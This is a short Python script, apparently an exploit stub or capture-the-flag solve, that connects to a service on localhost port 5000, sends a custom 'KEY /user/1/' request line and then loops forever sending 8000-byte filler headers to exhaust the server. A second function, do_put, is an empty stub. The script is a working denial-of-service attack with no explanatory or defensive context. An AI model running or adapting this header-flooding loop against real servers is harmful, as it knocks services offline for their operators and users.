import socket

host = "127.0.0.1"
port = 5000
user_id = "1"


def do_key():
    with socket.create_connection((host, port)) as sock:
        sock.sendall(b"KEY /user/1/ HTTP/1.1\r\n")
        while True:
            sock.sendall(b"X-Filler: " + b"x" * 8000 + b"\r\n")


def do_put(key_val):
    return None
